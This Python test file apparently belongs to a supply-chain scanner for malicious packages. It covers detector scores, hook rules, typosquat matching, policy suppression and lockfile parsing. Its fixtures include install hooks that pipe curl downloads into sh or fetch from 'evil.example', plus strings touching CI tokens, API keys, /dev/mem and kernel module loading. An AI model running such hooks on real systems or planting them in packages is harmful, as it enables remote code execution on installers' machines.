"""Detectors, names, policy and lockfiles on small made-up packages."""

import pytest
from pyspark.sql import functions as F

from tarnwatch.functions import signal_catalog as K
from tarnwatch.functions import text as T
from tarnwatch.operators import detectors as D
from tarnwatch.operators import iocs as I
from tarnwatch.operators import policy as P
from tarnwatch.operators import reports as R
from tarnwatch.operators import rollups as U
from tarnwatch.operators import similarity as M
from tarnwatch.sources import lockfiles as L


def files(spark, *rows):
    return spark.createDataFrame(rows, "package string, content string")


def test_each_and_once(spark):
    f = files(spark, ("p", "process.env.GITHUB_TOKEN\n" * 3))
    r = D.weighted(f, "D15", K.D15).first()
    assert (r["raw_score"], r["score"], r["severity"], r["signals"]) == (180, 100, "critical", ["oidc_token_access"])
    r = D.weighted(files(spark, ("p", "OPENAI_API_KEY OPENAI_API_KEY")), "D22", K.D22).first()
    assert r["raw_score"] == 90 + 75  # the unparenthesised alternation fires on the bare name


def test_clamp_keeps_self_defending_at_medium(spark):
    code = "process.argv inspect\nif (process.env.X SANDBOX\nrequire('./package.json')\nprocess.env.TRAVIS\nthrow new Error('checksum')\nfs.statSync"
    r = D.weighted(files(spark, ("p", code)), "D18", K.D18).first()
    assert (r["raw_score"], r["score"], r["severity"]) == (183, 100, "medium")


def test_one_pattern_in_two_types(spark):
    assert D.weighted(files(spark, ("p", "bpf(")), "D16", K.D16).first()["raw_score"] == 135


def test_scores_do_not_fall_with_more_files(spark):
    one = files(spark, ("p", "/dev/mem"), ("q", None), ("r", ""))
    two = one.unionByName(files(spark, ("p", "insmod x")))
    assert D.weighted(two, "D17", K.D17).first()["score"] >= D.weighted(one, "D17", K.D17).first()["score"] == 70


def test_hooks(spark):
    p = spark.createDataFrame([("a", {"postinstall": "curl http://x.example/i | sh"}), ("b", {"postinstall": "node -e \"require('x')('http://x.example')\""}), ("c", {"test": "curl http://x"})], "package string, scripts map<string,string>")
    got = {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()}
    assert got == {"a": (100, "high"), "b": (70, "high")}
    assert D.multistage(p).count() == 0  # a pipe into a shell is no call
    q = spark.createDataFrame([("d", {"install": "curl http://x.example/i && node -e \"exec('i')\""}), ("e", {"prepare": "node -e \"spawn('i', {detached: true})\""})], "package string, scripts map<string,string>")
    assert sorted((r["package"], r["score"]) for r in D.multistage(q).collect()) == [("d", 82), ("e", 78)]


def test_two_hops_and_no_third(spark):
    p = spark.createDataFrame([("p", {"install": "node a.js"})], "package string, scripts map<string,string>")
    f = spark.createDataFrame([("p", "a.js", "require('./b')"), ("p", "b.js", "require('./c')"), ("p", "c.js", "")], "package string, path string, content string")
    assert sorted(tuple(r["chain"]) for r in D.follow_hooks(p, f).collect()) == [("a.js",), ("a.js", "b.js")]


def test_version_confusion(spark):
    v = spark.createDataFrame([("99.99.99",), ("9.5.5",), ("1.0.0",), ("1.0.0-rc",)], "version string")
    assert {r["version"]: r["score"] for r in D.version_confusion(v).collect()} == {"99.99.99": 85, "9.5.5": 62}


def test_names(spark):
    n = spark.createDataFrame([("loddash",), ("lodash",), ("expres",), ("zzz",)], "name string")
    t = spark.createDataFrame([("lodash", 1), ("express", 2)], "target string, ordinal int")
    got = {r["name"]: (r["target"], r["distance"], r["score"]) for r in M.best_target(M.near_names(n, t)).collect()}
    assert got == {"loddash": ("lodash", 1, 75), "expres": ("express", 1, 75)}
    h = M.homoglyphs(spark.createDataFrame([("l0dash",)], "name string"), t).first()
    assert (h["target"], h["score"]) == ("lodash", round(5 / 6, 4))


def test_jaro_winkler():
    assert round(M.jaro_winkler("martha", "marhta"), 4) == 0.9611
    assert round(M.jaro_winkler("dixon", "dicksonx"), 4) == 0.8133
    assert M.jaro_winkler("", "a") == 0.0 and M.jaro_winkler("a", "a") == 1.0


def test_indicators(spark):
    p = spark.createDataFrame([("@x/a", "1"), ("b", "2"), ("b", "3")], "package string, version string")
    i = spark.createDataFrame([("packageScope", "@x/", []), ("packageName", "b", ["2"])], "type string, value string, malicious_versions array<string>")
    assert [r["package"] for r in I.by_scope(p, i).collect()] == ["@x/a"]
    assert [r["version"] for r in I.by_name(p, i).collect()] == ["2"]


def test_needles(spark):
    d = spark.createDataFrame([(1, "xx the quick brown fox jumps over the lazyish dog"), (2, "the quick brown"), (3, None), (4, "")], "doc_id int, text string")
    n = spark.createDataFrame([(10, "e quick brown fox jumps over the lazy"), (11, "quick brown"), (12, "the slow brown fox jumps over the lazy"), (13, None)], "item_id int, needle string")
    got = sorted(tuple(r) for r in I.contains_any(d, n, "doc_id", "text", "item_id", "needle").collect())
    assert got == [(1, 10), (1, 11), (2, 11)]


def test_suppression_keeps_lifecycle_hooks(spark):
    cols = "finding_id int, package string, atk_id string, is_dist_build boolean, is_test_fixture boolean, is_lifecycle_hook boolean, is_multi_layer boolean, file_path string"
    f = spark.createDataFrame([(1, "p", "A", True, False, True, False, "dist/x.js"), (2, "p", "A", True, False, False, False, "dist/x.js"), (3, "p", "B", True, False, False, False, "dist/x.js")], cols)
    r = spark.createDataFrame([("A", "*", True, None, T.glob("dist/**"))], "atk_id string, package string, is_dist_build boolean, is_test_fixture boolean, path_regex string")
    assert sorted(x["finding_id"] for x in P.suppress(f, r).collect()) == [1, 3]


def test_allow_list_knows_scopes(spark):
    p = spark.createDataFrame([("@s/x", "1"), ("y", "1"), ("y", "2")], "package string, version string")
    a = spark.createDataFrame([("@s/x",), ("y@1",)], "entry string")
    assert [(r["package"], r["version"]) for r in P.allowed(p, a).collect()] == [("y", "2")]


def test_risk_scores(spark):
    rows = [(1, "p", s, False, 0) for s in ("critical", "high", "high")] + [(2, "p", "low", False, 0)] * 12
    f = spark.createDataFrame(rows, "scan_id int, package string, severity string, provenance_verified boolean, slsa_level int")
    assert {r["scan_id"]: r["risk_score"] for r in U.risk_score_sum(f).collect()} == {1: 10.0, 2: 10.0}
    assert {r["scan_id"]: r["risk_score"] for r in U.risk_score_max(f).collect()} == {1: 10.0, 2: 5.0}


def test_control_without_findings_stays(spark):
    f = spark.createDataFrame([], "atk_id string")
    assert R.control_table(f, R.nist_controls(spark)).where("status = 'PASS'").count() == 11


def test_text_functions(spark):
    d = spark.createDataFrame([("aab", "git+https://GitHub.com/a/b.git", bytearray(b"\x7fELF..")), ("", "git@host.example:a/b", bytearray(b""))], "c string, u string, b binary")
    r = d.select(F.round(T.entropy(F.col("c")), 4), T.repo_url(F.col("u")), T.magic(F.col("b"))).collect()
    assert [tuple(x) for x in r] == [(0.9183, "https://github.com/a/b", "elf"), (0.0, "https://host.example/a/b", None)]


def test_lockfiles(spark):
    npm = '{"lockfileVersion":3,"packages":{"":{"version":"1"},"node_modules/@s/a":{"version":"2","dev":true},"node_modules/b/node_modules/c":{"version":"3","peerDependencies":{"x-plugin":"1"}}}}'
    yarn = '# v1\n\n"@s/a@^1", "@s/a@^2":\n  version "2.0.0"\n  resolved "https://registry.yarnpkg.com/@s/a/-/a.tgz#1"\n  integrity sha512-x\n\nb@1:\n  version "1.0.0"\n'
    f = spark.createDataFrame([("package-lock.json", npm), ("yarn.lock", yarn)], "path string, content string").withColumn("format", L.lockfile_format(F.col("path"), F.col("content")))
    n = L.npm_packages(f.where("format = 'npm'"))
    assert sorted((r["name"], r["version"]) for r in n.collect()) == [("@s/a", "2"), ("c", "3")]
    assert L.lockfile_totals(n).first()["dev"] == 1
    assert [r["severity"] for r in L.graph_rules(n).collect()] == ["high"]
    y = {r["name"]: (r["version"], r["resolved"]) for r in L.yarn_packages(f.where("format = 'yarn'")).collect()}
    assert y == {"@s/a": ("2.0.0", "https://registry.npmjs.org/@s/a/-/a.tgz#1"), "b": ("1.0.0", None)}
    q = L.requirements(spark.createDataFrame([("requirements.txt", "A==1.0 # x\nb[extra]>=2\n-r other\nc")], "path string, content string"))
    assert sorted((r["name"], r["operator"], r["version"]) for r in q.collect()) == [("a", "==", "1.0"), ("b", ">=", "2"), ("c", None, None)]


def test_desync_ignores_line_ends(spark):
    t = spark.createDataFrame([("p", "a", "x \r\ny"), ("p", "b", "1"), ("p", "c", "1")], "package string, path string, content string")
    s = spark.createDataFrame([("p", "a", "x\ny"), ("p", "b", "2")], "package string, path string, content string")
    assert sorted((r["path"], r["kind"]) for r in D.tarball_desync(t, s).collect()) == [("b", "modified"), ("c", "absent_from_source")]


def test_glob():
    assert T.glob("a/*.js") == r"^a/[^/]*\.js$" and T.glob("d/**") == "^d/.*$"


def test_long_hooks_are_scored(spark):
    pad = "echo padding; " * 1000
    p = spark.createDataFrame([("front", {"install": f"curl http://evil.example/x {pad}"}), ("back", {"install": f"{pad} curl http://evil.example/x"})], "package string, scripts map<string,string>")
    assert {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()} == {"front": (100, "high"), "back": (100, "high")}


def test_simhash_classes_and_pairs_against_brute_force(spark):
    # Equal hashes of different texts: order of the words does not count.
    texts = {1: "a b c d", 2: "d c b a", 3: "b a d c", 4: "w x y z", 5: "z y x w", 6: "one two three four five"}
    hashes = M.token_simhash(spark.createDataFrame(list(texts.items()), "doc_id long, text string"), "doc_id", "text")
    of = {r["doc_id"]: r["simhash"] for r in hashes.collect()} | {7: 0b111, 8: 0b110, 9: 0b110}
    rows = M.simhash_neighbours(spark.createDataFrame(list(of.items()), "doc_id long, simhash long"), "doc_id").collect()
    least = {h: min(k for k in of if of[k] == h) for h in of.values()}
    pairs = {(least[g], least[h]) for g in least for h in least if g < h and (g ^ h).bit_count() <= 3}
    assert {(r["doc_id"], r["other"]) for r in rows if r["kind"] == "pair"} == pairs and (8, 7) in pairs
    want = {k: (least[h], sum(g == h for g in of.values()), sum(least[h] in q for q in pairs)) for k, h in of.items()}
    assert {r["doc_id"]: (r["class_id"], r["copies"], r["links"]) for r in rows if r["kind"] == "member"} == want
    assert want[3][:2] == (1, 3)


def test_catalogue_reads_what_each_signal_asks_for(spark):
    f = spark.createDataFrame([("p", "a.js", "BPF_PROG_LOAD"), ("q", "a.py", "BPF_PROG_LOAD"), ("r", "a.js", "x"), ("s", "a.js", "kernel exploit\n" * 5), ("t", "a.js", "x")], "package string, path string, content string")
    hooks = spark.createDataFrame([("r", "postinstall", "BPF_PROG_LOAD"), ("r", "test", "BPF_PROG_LOAD"), ("t", "build", "bun run x")], "package string, hook string, body string")
    got = {(r["package"], r["detector"][:3]): r["raw_score"] for r in D.all_weighted(f, K.CONTENT, path="path", scripts=hooks).collect()}
    assert got == {("p", "D16"): 70, ("r", "D16"): 65, ("s", "D17"): 60, ("t", "D24"): 85}


def test_policy_document(spark):
    from tarnwatch.sources import policy as SP

    p = SP.load(spark, '{"suppress": [{"atk_id": "ATK-001", "context": {"file_path": "a/*.js"}}], "fail_on": "high"}', "json")
    assert p.fail_on == "high" and p.suppress.first()["path_regex"] == r"^a/[^/]*\.js$" and p.allow.count() == 0
    for bad in ("[]", "fail_on: worse", "severity_overrides: {A: worse}", "suppress: [{package: x}]", "allow: {packages: x}"):
        with pytest.raises(ValueError):
            SP.load(spark, bad)
